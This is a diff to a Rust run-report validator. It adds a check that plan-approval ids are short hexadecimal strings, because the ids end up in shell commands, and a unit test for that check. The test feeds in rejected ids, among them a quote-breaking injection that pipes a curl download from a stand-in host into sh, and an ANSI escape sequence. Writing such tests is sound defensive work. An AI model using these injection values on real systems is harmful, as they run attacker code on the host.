@@ -1,7 +1,7 @@
 //! Validates run reports (rule 12). Module code has the runner's token, so a report may hold any bytes.
 
 use alustan_api::report::{
-    ChangeSet, Failure, MAX_CHANGES, MAX_TEXT, RunReport, StepTimes, Undeclared,
+    ChangeSet, Failure, MAX_CHANGES, MAX_TEXT, PlanAsks, RunReport, StepTimes, Undeclared,
 };
 use alustan_api::run::{
     Claim, Lineage, MAX_SLOTS, OwnBackend, RunKind, RunPhase, RunProgress, RunRecord, RunSpec,
@@ -22,6 +22,8 @@ const MAX_ADDRESS: usize = 2_048;
 const MAX_RESOURCE: usize = 512;
 /// Maximum size of the name of a variable, in bytes.
 const MAX_VARIABLE: usize = 128;
+/// Maximum size of the id of a plan, as of `spec.approval.plan`, in bytes.
+const MAX_ID: usize = 64;
 /// Maximum number of reasons why a plan needs approval. They share one condition message of at most 32 KiB.
 const MAX_BECAUSE: usize = 24;
 /// Maximum size of one such reason, in bytes.
@@ -205,14 +207,7 @@ pub fn report(told: RunReport, run: &RunSpec, now: Timestamp) -> RunReport {
         trigger: run.trigger.to_string(),
         job: run.job.clone(),
         changes: told.changes.map(changes),
-        asks: told.asks.map(|mut asks| {
-            asks.id = cut(&asks.id, MAX_WORD);
-            asks.because.truncate(MAX_BECAUSE);
-            for why in &mut asks.because {
-                *why = cut(why, MAX_WHY);
-            }
-            asks
-        }),
+        asks: told.asks.and_then(asks),
         lineage: told.lineage.map(|it| cut(&it, MAX_WORD)),
         lock: told.lock.as_ref().map(lock),
         failure: told.failure.map(failure),
@@ -242,6 +237,20 @@ pub(crate) fn engine(told: &Engine) -> Engine {
         version: cut(&told.version, MAX_WORD),
         ..*told
     }
+}
+
+/// Validates why a plan needs approval. `None` unless the id is hexadecimal: messages have it in shell commands.
+fn asks(told: PlanAsks) -> Option<PlanAsks> {
+    let is_hexadecimal = told.id.bytes().all(|byte| byte.is_ascii_hexdigit());
+    (is_hexadecimal && (1..=MAX_ID).contains(&told.id.len())).then(|| PlanAsks {
+        id: told.id,
+        because: told
+            .because
+            .iter()
+            .take(MAX_BECAUSE)
+            .map(|why| cut(why, MAX_WHY))
+            .collect(),
+    })
 }
 
 fn undeclared(told: &Undeclared) -> Undeclared {
@@ -292,4 +301,48 @@ pub(crate) fn cut(text: &str, most: usize) -> String {
     text.get(..text.floor_char_boundary(most))
         .unwrap_or_default()
         .replace(is_control, " ")
+}
+
+#[cfg(test)]
+mod tests {
+    use alustan_api::report::RunResult;
+    use serde_json::json;
+
+    use super::*;
+
+    fn run() -> RunSpec {
+        serde_json::from_value(json!({
+            "kind": RunKind::Apply, "trigger": "created", "job": "web-apply-7", "image": "i",
+            "tag": "t", "configHash": "c", "traceId": "abc", "protocol": 5,
+            "startedAt": "2026-01-01T00:00:00Z", "revision": null, "context": null,
+        }))
+        .unwrap()
+    }
+
+    #[test]
+    fn plan_asks_by_a_hexadecimal_id_alone() {
+        let run = run();
+        let ids = [
+            ("0f3c9a51b2e4d870".to_owned(), true),
+            ("a".repeat(64), true),
+            ("a".repeat(65), false),
+            (String::new(), false),
+            ("a'; curl evil.test | sh; '".to_owned(), false),
+            ("a\u{1b}[2K".to_owned(), false),
+        ];
+        for (id, is_kept) in ids {
+            let told: RunReport = serde_json::from_value(json!({
+                "number": 7, "kind": RunKind::Apply, "result": RunResult::Changes,
+                "asks": {"id": id, "because": vec!["x".repeat(600); 30]},
+                "startedAt": run.started_at, "finishedAt": run.started_at,
+            }))
+            .unwrap();
+            let kept = PlanAsks {
+                id,
+                because: vec!["x".repeat(512); 24],
+            };
+            let asks = report(told, &run, run.started_at).asks;
+            assert_eq!(asks, is_kept.then_some(kept));
+        }
+    }
 }
